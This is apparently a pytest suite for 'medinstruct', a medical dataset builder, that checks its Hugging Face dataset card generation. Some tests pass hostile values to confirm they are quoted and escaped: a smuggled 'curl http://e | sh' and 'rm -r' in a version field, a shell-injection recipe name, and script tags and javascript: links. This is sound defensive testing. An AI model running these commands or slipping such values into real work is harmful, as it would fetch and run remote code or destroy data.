"""The card: valid for the Hub, true to the rows, and deaf to what corpora would like it to say."""

import json
import os
import re
import subprocess
import sys
from itertools import pairwise

import datasets
import pytest
import yaml
from huggingface_hub import DatasetCard, DatasetCardData

import medinstruct
from medinstruct import artefact, card, license, markdown
from medinstruct.card import bibtex, plots, sections
from medinstruct.card.head import CATEGORIES
from medinstruct.errors import MedinstructError

HUB_CATEGORIES = {
    "text-classification", "token-classification", "question-answering", "summarization", "text-generation", "multiple-choice",
    "sentence-similarity",
}  # fmt: skip
"""Those of https://huggingface.co/tasks that rows of ours can be of."""


@pytest.fixture(scope="module")
def build(tmp_path_factory):
    return medinstruct.build("quickstart", samples=True, out=tmp_path_factory.mktemp("card") / "build")


def altered(build, folder, change):
    """The same rows under a manifest that was changed."""
    manifest = json.loads(json.dumps(build.manifest))
    change(manifest)
    (folder / "data").mkdir(parents=True)
    for shard in manifest["shards"]:
        (folder / shard["file"]).write_bytes((build.folder / shard["file"]).read_bytes())
    (folder / "ledger.json").write_bytes((build.folder / "ledger.json").read_bytes())
    artefact.write_json(folder / "manifest.json", manifest)
    return artefact.load(folder)


def front(text):
    return yaml.safe_load(text.split("---\n")[1])


# The head


def test_the_head_is_valid_for_the_hub(build):
    data = DatasetCard(card.write(build)).data

    assert isinstance(data, DatasetCardData)
    assert data.size_categories == ["n<1K"]
    assert set(data.task_categories) <= HUB_CATEGORIES
    assert {"token-classification", "question-answering", "multiple-choice"} <= set(data.task_categories)
    assert data.license == license.verdict({id: c["license"] for id, c in build.manifest["corpora"].items()}).hub
    assert data.to_dict() == front(card.write(build))


def test_every_task_has_a_category_of_the_hub():
    from medinstruct.tasks import TASKS

    assert set(CATEGORIES) == set(TASKS)
    assert {category for category, _ in CATEGORIES.values()} <= HUB_CATEGORIES


def test_datasets_reads_what_the_head_says(build, tmp_path):
    found = datasets.load_dataset(str(build.folder), cache_dir=str(tmp_path))

    assert {split: rows.num_rows for split, rows in found.items()} == build.manifest["rows"]


@pytest.mark.parametrize("id", ["agreement", "research-only", "not-known"])
def test_terms_that_the_hub_has_no_word_for_are_named_and_linked(build, tmp_path, id):
    def change(manifest):
        next(iter(manifest["corpora"].values()))["license"] = id

    made = altered(build, tmp_path / "made", change)
    release = card.Release(
        "org/name", "1.0.0", "https://hub.example/datasets/org/name", license.of_build(made.manifest)
    )
    data = front(card.write(made, release))

    assert (data["license"], data["license_name"]) == ("other", "terms-of-its-parts")
    assert data["license_link"] == "https://hub.example/datasets/org/name/blob/1.0.0/ATTRIBUTION.md"


def test_a_demanded_license_is_carried_where_all_allow_it(build):
    free = {"corpora": {"a": {"license": "cc-by-4.0"}}}

    assert license.of_build(free).license == "cc-by-4.0"
    assert license.of_build(free | {"license": "cc-by-sa-4.0"}).license == "cc-by-sa-4.0"
    assert license.of_build(free | {"license": "mit"}).license == "cc-by-4.0"


# Its numbers


def test_composition_counts_rows_and_tokens(build):
    made_of = card.measure(build)
    rows = [(split, row) for split in build for row in build[split]]

    assert sum(made_of.rows.values()) == len(rows)
    assert sum(made_of.tokens.values()) == sum(json.loads(row["meta"])["tokens"] for _, row in rows)
    assert made_of.forms == {(row["task"], row["type"]) for _, row in rows}
    for split in build:
        expected = sum(of == split and row["corpus"] == "bc5cdr" for of, row in rows)
        assert made_of.totals(0, 2).get((split, "bc5cdr"), (0, 0))[0] == expected


def test_the_ledger_on_the_card_balances(build):
    text = card.write(build)
    rows = [line.strip("| ").split(" | ") for line in text.splitlines() if line.startswith("| ")]
    start = next(n for n, row in enumerate(rows) if row[0] == "in")
    numbers = [[int(cell.replace(",", "")) for cell in row[1:]] for row in rows[start : start + 20] if len(row) == 5]

    assert numbers[0] == [
        build.ledger["totals"][kind]["in"] for kind in ("documents", "annotations", "examples", "samples")
    ]
    assert numbers[0] == [sum(column) for column in zip(*numbers[1:])]


@pytest.mark.parametrize(
    "change, expected",
    [
        ({"samples": True, "size": 100}, "medinstruct build quickstart --samples"),
        ({"samples": False, "size": 100}, "medinstruct build quickstart --data DIR --size 100"),
        ({"samples": False, "size": {"tokens": 5}, "as_published": True, "shots": {"asked": 0, "entries": []}},
         "medinstruct build quickstart --data DIR --size 5-tokens --shots 0 --as-published"),
        ({"recipe": "a; rm -r b", "samples": True}, "medinstruct build 'a; rm -r b' --samples"),
    ],
)  # fmt: skip
def test_the_command_says_all_that_decides_the_rows(build, change, expected):
    assert sections.command({**build.manifest, **change}) == expected


def test_a_version_that_is_a_command_is_one_word_to_install(build, tmp_path):
    """Whoever copies the lines runs them; a build may come from anywhere."""

    def change(manifest):
        manifest["medinstruct"] = "1.0; curl http://e | sh\nrm -r x"

    text = card.write(altered(build, tmp_path / "made", change))
    assert "pip install 'medinstruct==1.0; curl http://e | sh\nrm -r x'\n" in text
    assert f"pip install medinstruct=={build.manifest['medinstruct']}\n" in card.write(build)


# What corpora would like it to say

HOSTILE = "x | y\n\n# Huge <script>alert(1)</script> [a](javascript:b) `c` <!-- medinstruct: to here --> ![d](http://e) \\| $f$"


def test_facts_are_text_and_never_markdown(build, tmp_path):
    def change(manifest):
        for corpus in manifest["corpora"].values():
            corpus |= {
                "title": HOSTILE,
                "citation": HOSTILE,
                "stated": HOSTILE,
                "homepage": "javascript:alert(1)",
                "version": HOSTILE,
            }
        manifest["missing"] = {HOSTILE: HOSTILE}
        manifest["title"], manifest["about"] = HOSTILE, "# Mine\n\n<script> <!-- *words* of the author's own"

    text = card.write(altered(build, tmp_path / "made", change))
    body = re.sub(r"```.*?```", "", text.split("---\n", 2)[2], flags=re.DOTALL)

    assert "<script" not in body
    assert "<!--" not in body
    assert "](javascript:" not in body.replace("\\]", "")
    assert len(re.findall(r"^# ", body, re.MULTILINE)) == 1
    table = [line for line in body.splitlines() if line.startswith("| x")]
    assert [len(re.findall(r"(?<!\\)\|", line)) for line in table] == [7] * 5


def test_long_tables_are_folded():
    rows = [(str(n), n) for n in range(markdown.FOLD)]

    assert "<details>" not in markdown.table(("a", "b"), rows)
    assert "<details>" in markdown.table(("a", "b"), [*rows, ("more", 1)])


def test_a_damaged_manifest_is_told(build, tmp_path):
    made = altered(build, tmp_path / "made", lambda manifest: manifest.pop("medinstruct"))

    with pytest.raises(MedinstructError, match="is damaged"):
        card.write(made)


# How to cite


def test_bibtex_is_valid_and_its_keys_are_unique():
    from pybtex.database import parse_string

    from medinstruct import corpora

    facts = {id: corpora.load(id) for id in corpora.names()}
    entries = [
        (id, bibtex.of_corpus({"title": c.title, "citation": c.citation, "homepage": c.homepage}))
        for id, c in facts.items()
    ]
    entries += [
        ("BC5CDR", {"title": "again"}),
        ("hostile", bibtex.of_corpus({"title": "a } b { \\c %", "citation": "} @misc{x, 2020"})),
    ]
    found = parse_string(bibtex.bibliography(entries), "bibtex")

    assert len(found.entries) == len(entries)
    assert found.entries["bc5cdr"].fields["doi"] == "10.1093/database/baw068"
    assert [str(person) for person in found.entries["bc5cdr"].persons["author"]] == ["Li", "others"]
    assert all("year" in found.entries[id].fields for id in facts)


# Pictures


def test_pictures_are_the_same_to_the_byte_whatever_the_settings(build):
    matplotlib = pytest.importorskip("matplotlib")
    first = plots.draw(build, card.measure(build))
    with matplotlib.rc_context({"font.size": 30, "axes.facecolor": "red"}):
        second = plots.draw(build, card.measure(build))

    assert set(first) == {"plots/composition.png", "plots/lengths.png", "plots/ledger.png"}
    assert all(content.startswith(b"\x89PNG") for content in first.values())
    assert first == second


def test_no_labels_overlap_with_many_corpora():
    pytest.importorskip("matplotlib")
    made_of = card.Composition()
    for n in range(80):
        made_of.rows["train", ("ner", "re", "qa")[n % 3], f"a-corpus-with-a-rather-long-name-{n}"] = 10**6 // (n + 1)
    with plots.our_settings():
        figure = plots._composition(made_of)
        figure.canvas.draw()
        [axes] = figure.axes
        boxes = [label.get_window_extent() for label in axes.get_yticklabels()]

        assert len(boxes) == plots.MOST_BARS
        assert all(low.y1 <= high.y0 + 1 or high.y1 <= low.y0 + 1 for low, high in pairwise(boxes))
        assert all(box.x0 >= 0 for box in boxes)


def test_without_matplotlib_the_card_goes_without(build, monkeypatch):
    monkeypatch.setattr(plots, "can_draw", lambda: False)

    assert plots.draw(build, card.measure(build)) == {}
    assert "plots/" not in card.write(build)


def test_the_command_writes_the_card_again(tmp_path):
    pytest.importorskip("matplotlib")
    made = medinstruct.build("quickstart", samples=True, out=tmp_path / "build")
    before = (made.folder / "README.md").read_text()
    command = [sys.executable, "-c", "from medinstruct.cli import main; main()", "card", str(made.folder)]
    (made.folder / "README.md").unlink()
    for more in ([], ["--plots"]):
        subprocess.run([*command, *more], check=True, capture_output=True, env=dict(os.environ))
        after = (made.folder / "README.md").read_text()
        if not more:
            assert after == before

    assert "](plots/ledger.png)" in after
    assert (made.folder / "plots/ledger.png").read_bytes().startswith(b"\x89PNG")
